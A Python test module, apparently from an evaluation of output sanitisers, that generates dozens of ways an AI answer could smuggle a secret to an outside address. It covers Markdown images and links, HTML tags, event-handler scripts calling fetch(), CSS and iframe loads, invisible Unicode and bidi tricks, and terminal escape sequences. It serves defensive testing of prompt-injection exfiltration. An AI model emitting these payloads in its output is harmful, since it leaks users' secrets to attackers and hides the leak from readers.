"""Ways in which an answer can try to carry a secret to an address: by the reader's browser, chat client or terminal. Each is a
function of both, so that campaigns can vary them. For tests."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from html import escape
from urllib.parse import quote, urlsplit

Kind = Callable[[str, str], str]
"""(secret, address) -> the hostile text."""


def _to(address: str, secret: str) -> str:
    return f"{address}?q={quote(secret)}"


def _fetch(address: str, secret: str) -> str:
    """A script that says aloud that it runs, and sends the secret."""
    return f"window.ran=(window.ran||0)+1;fetch('{_to(address, secret)}',{{mode:'no-cors'}})"


def _with_address(form: str) -> Kind:
    """A form with ¤ where the address with the secret goes."""
    return lambda secret, address: form.replace("¤", _to(address, secret))


def _with_script(form: str) -> Kind:
    """A form with ¤ where a script goes."""
    return lambda secret, address: form.replace("¤", _fetch(address, secret))


def _on_other_host(form: str) -> Kind:
    """A form with ¤ where the address goes without its scheme, and § where the secret does."""
    return lambda secret, address: form.replace("¤", address.partition("://")[2]).replace("§", quote(secret))


def _in_entities(secret: str, address: str) -> str:
    return "".join(f"&#{ord(c)};" if c in "<>:/\"'" else c for c in f'<img src="{_to(address, secret)}">')


def _in_bare_entities(secret: str, address: str) -> str:
    return "".join(f"&#x{ord(c):x}" if c in "<>" else c for c in f"<img src={_to(address, secret)}> ")


def _split_by_nothing(secret: str, address: str) -> str:
    return f"<\u200bimg s\u2060rc='{_to(address, secret)}'>!\u200b[x]\u200d({_to(address, secret)})"


def _turned(secret: str, address: str) -> str:
    return f"\u202e<img src={_to(address, secret)}>\u202c [\u2066statement\u2069]({_to(address, secret)})"


def _in_tag_characters(secret: str, address: str) -> str:
    hidden = "".join(chr(0xE0000 + ord(c)) for c in f"![]({_to(address, secret)})")
    return f"All is well.{hidden}"


def _in_data_address(secret: str, address: str) -> str:
    page = escape(f"<script>{_fetch(address, secret)}</script>", quote=True)
    return f'<iframe src="data:text/html,{quote(page)}"></iframe> [open](data:text/html,{quote(f"<img src={address}>")})'


def _in_srcdoc(secret: str, address: str) -> str:
    return f'<iframe srcdoc="{escape(f"<img src={_to(address, secret)}><script>{_fetch(address, secret)}</script>")}"></iframe>'


def _by_mail(secret: str, address: str) -> str:
    host = urlsplit(address).hostname
    return f"[write to us](mailto:keeper@{host}?body={quote(secret)}) <keeper@{host}>"


MARKDOWN_KINDS: Mapping[str, Kind] = {
    "image": _with_address("![a chart](¤)"),
    "image with title": _with_address('![a chart](¤ "\'><img src=¤>")'),
    "image in angles": _with_address("![a chart](<¤>)"),
    "image by reference": _with_address("![a chart][c]\n\n[c]: ¤ 'title'"),
    "image by its own name": _with_address("![chart]\n\n[chart]: <¤>"),
    "link": _with_address("[the whole statement](¤)"),
    "link by reference": _with_address("[the whole statement][s]\n\n[s]: ¤"),
    "link around an image": _with_address("[![a chart](¤)](¤)"),
    "address in angles": _with_address("<¤>"),
    "bare address": _with_address("See ¤ for more."),
    "address without scheme": _on_other_host("See www.¤?q=§ or //¤?q=§"),
    "mail": _by_mail,
    "telephone": lambda secret, address: f"[call](tel:+{''.join(str(ord(c)) for c in secret)}) <tel:+1> <sms:+1?body={secret}>",
    "file": lambda secret, address: (
        f"[open](file://{urlsplit(address).netloc}/{quote(secret)}) <file:///etc/passwd> ![](file:///x)"
    ),
    "script address": _with_script("[open](javascript:¤) <javascript:¤> ![x](javascript:¤)"),
    "image in a cell": _with_address("| a | b |\n|---|---|\n| ![x](¤) | <img src=¤> |"),
    "image in a heading": _with_address("# ![x](¤) <img src=¤>"),
    "address after a code fence": _with_address("```![x](¤) <img src='¤'>\ncode\n```\n<img src=¤>"),
    "footnote definition": _with_address("As is said[^1].\n\n[^1]: ![x](¤) <img src=¤>"),
    "mark as link": _with_address("As is said [1](¤)."),
    "mark with a definition": _with_address("As is said [1].\n\n[1]: ¤"),
    "mark around an image": _with_address("As is said [![1](¤)](#cite-1.1)."),
    "look-alike of our mark": _with_address("As is said [1](#\u0441ite-1.1) [1](¤#cite-1.1) [\uff11](¤)."),
    "our address on another host": _on_other_host("[1](//¤/passage/x?start=0&q=§) ![1](//¤/page/x/1.png?q=§)"),
    "backslashes": _on_other_host(r"[1](/\¤?q=§) [1](http:\\¤?q=§) ![x](\\¤?q=§) <img src='/\¤?q=§'>"),
    "wiki link": _with_address("[[¤|the statement]] ![[¤]]"),
    "formula": _with_address(r"$$\href{¤}{x}$$ $\includegraphics{¤}$ \(\url{¤}\)"),
    "unfinished image": _with_address("![a chart](¤"),
    "unfinished link": _with_address("[a statement]( <¤"),
}
"""By Markdown, for readers that draw it."""

HTML_KINDS: Mapping[str, Kind] = {
    "img": _with_address("<img src='¤'>"),
    "img without quotes": _with_address("<img/src=¤/>"),
    "img over lines": _with_address("<img\nsrc\n=\n'¤'\n>"),
    "srcset": _with_address("<img srcset='¤ 1x, ¤ 2x'>"),
    "picture": _with_address("<picture><source srcset='¤'><img></picture>"),
    "svg image": _with_address("<svg><image href='¤' xlink:href='¤' width=9 height=9></image></svg>"),
    "svg use": _with_address("<svg><use href='¤#x'></use><feImage href='¤'></feImage></svg>"),
    "svg script": _with_script('<svg onload="¤"><script>¤</script><animate onbegin="¤" attributeName=x dur=1s></svg>'),
    "video": _with_address("<video src='¤' autoplay poster='¤'><track src='¤' default></video>"),
    "audio": _with_address("<audio src='¤' autoplay></audio><audio autoplay><source src='¤'></audio>"),
    "input image": _with_address("<input type=image src='¤'>"),
    "style sheet": _with_address("<link rel=stylesheet href='¤'>"),
    "hints": _with_address("<link rel=preload as=image href='¤'><link rel=prefetch href='¤'><link rel=modulepreload href='¤'>"),
    "connection ahead": _with_address("<link rel=dns-prefetch href='¤'><link rel=preconnect href='¤'>"),
    "icon": _with_address("<link rel=icon href='¤'><link rel='apple-touch-icon' href='¤'><link rel=manifest href='¤'>"),
    "style import": _with_address("<style>@import '¤';</style>"),
    "style address": _with_address("<style>*{background:url('¤')} p::after{content:url('¤')}</style>"),
    "style attribute": _with_address("<p style=\"background:url('¤');list-style:url('¤')\">x</p>"),
    "font": _with_address("<style>@font-face{font-family:f;src:url('¤')} *{font-family:f!important}</style><b>a</b>"),
    "base": _with_address("<base href='¤'><img src=x><base target='_blank'>"),
    "meta refresh": _with_address("<meta http-equiv=refresh content='0;url=¤'>"),
    "iframe": _with_address("<iframe src='¤'></iframe><frameset><frame src='¤'></frameset>"),
    "iframe within": _in_srcdoc,
    "data address": _in_data_address,
    "object": _with_address("<object data='¤'></object><applet code='¤'></applet>"),
    "embed": _with_address("<embed src='¤'>"),
    "form": _with_address(
        "<form action='¤' id=f><input name=q value=1><button formaction='¤' autofocus>Continue</button></form>"
    ),
    "script file": _with_address("<script src='¤'></script><script type=module src='¤'></script>"),
    "script": _with_script("<script>¤</script><script type=module>¤</script>"),
    "error event": _with_script('<img src=x: onerror="¤"><video src=x: onerror="¤"></video>'),
    "focus event": _with_script('<input autofocus onfocus="¤"><details open ontoggle="¤"><summary>x</summary></details>'),
    "animation event": _with_script(
        '<style>@keyframes k{from{opacity:0}}</style><b style="animation:k 1ms" onanimationstart="¤">x</b>'
    ),
    "script in a link": _with_script('<a href="javascript:¤" id=a>x</a><form action="javascript:¤"><button>x</button></form>'),
    "ping": _with_address("<a href='#cite-1.1' class=cite ping='¤'>1</a><area href='¤' ping='¤'>"),
    "old backgrounds": _with_address("<table background='¤'><tr><td background='¤'>x</table><body background='¤'>"),
    "marquee": _with_script('<marquee onstart="¤" behavior=alternate loop=1>x</marquee>'),
    "mathml": _with_address(
        "<math href='¤'><mtext><img src='¤'></mtext><annotation-xml encoding='text/html'><img src='¤'></math>"
    ),
    "template": _with_address("<div><template shadowrootmode=open><img src='¤'><link rel=stylesheet href='¤'></template></div>"),
    "portal": _with_address("<portal src='¤'></portal><fencedframe src='¤'></fencedframe><webview src='¤'></webview>"),
    "speculation": _with_address('<script type=speculationrules>{"prefetch":[{"source":"list","urls":["¤"]}]}</script>'),
    "import map": _with_address('<script type=importmap>{"imports":{"x":"¤"}}</script><script type=module>import "x"</script>'),
    "processing instruction": _with_address("<?xml-stylesheet href='¤'?><![CDATA[<img src='¤'>]]>"),
    "comment": _with_address("<!--><img src='¤'>--><!-- --!><img src='¤'> -->"),
    "out of raw text": _with_address(
        "</title></textarea></style></noscript></script><img src='¤'><noscript><p title='</noscript><img src=¤>'>"
    ),
    "out of an attribute": _with_address("\"'><img src='¤'><p title=\""),
    "out of our elements": _with_address("</div></article></div><div id=source><img src='¤'></div><div class=writing>"),
    "unfinished tag": _with_address("<img src='¤' "),
    "tag within a tag": _with_address("<im<img>g src='¤'><<img src='¤'>>"),
    "entities": _in_entities,
    "entities without end": _in_bare_entities,
    "split by nothing": _split_by_nothing,
    "turned round": _turned,
    "page template": _with_script("${(()=>{¤})()} {{#if 1}}{{{constructor.constructor '¤'}}}{{/if}} <% ¤ %> {@html '¤'}"),
}
"""By HTML and scripts, for browsers."""

OTHER_KINDS: Mapping[str, Kind] = {
    "tag characters": _in_tag_characters,
    "full-width look-alikes": _with_address("＜img src='¤'＞ ！［x］（¤）"),
    "chat mention": lambda secret, address: f"<!channel> <!here|{secret}> <@U0000> <#C0000> <!subteam^S0000>",
    "chat link": _with_address("<¤|the whole statement>"),
    "terminal link": lambda secret, address: (
        f"\x1b]8;;{_to(address, secret)}\x1b\\the statement\x1b]8;;\x1b\\ \x9d8;;{address}\x9cx"
    ),
    "terminal clipboard": lambda secret, address: f"\x1b]52;c;{secret.encode().hex()}\x07 \x1bP+q{secret}\x1b\\ \x9b21t\x1b[6n",
    "terminal title": lambda secret, address: (
        f"\x1b]0;{_to(address, secret)}\x07\x1b[2J\x1b[1;1H\x08\x08\x7f\r\x1b[8mhidden\x1b[0m"
    ),
}
"""For chat clients and terminals, and what hides from people."""

KINDS: Mapping[str, Kind] = {**MARKDOWN_KINDS, **HTML_KINDS, **OTHER_KINDS}
